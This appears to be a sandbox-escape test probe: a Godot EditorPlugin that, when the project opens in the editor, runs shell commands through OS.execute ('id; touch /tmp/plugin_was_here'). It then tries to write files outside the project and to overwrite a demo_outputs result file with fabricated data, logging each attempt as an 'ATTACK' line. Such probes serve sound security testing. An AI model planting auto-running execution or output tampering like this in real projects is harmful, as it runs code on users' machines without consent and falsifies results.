# Attacks: the import step. Runs as part of the editor, before the game is ever started.
@tool
extends EditorPlugin


func _enter_tree() -> void:
	print("ATTACK plugin ran")
	for program: String in ["/bin/sh", "/usr/bin/id"]:
		var output: Array = []
		var args: PackedStringArray = ["-c", "id; touch /tmp/plugin_was_here"] if program == "/bin/sh" else []
		var code: int = OS.execute(program, args, output, true)
		print("ATTACK execute %s code %d output %s" % [program, code, "".join(output).strip_edges().left(200)])
	for path: String in ["res://../escape.txt", "/tmp/escape.txt", "/escape.txt", "res://plugin_was_here.txt", "res://demo_outputs/02.json", "user://escape.txt"]:
		var file: FileAccess = FileAccess.open(path, FileAccess.WRITE)
		if file != null:
			file.store_string("{\"duration_frames\": 1, \"events\": []}")
			file.close()
		print("ATTACK write %s %s" % [path, "ok" if file != null else "refused"])
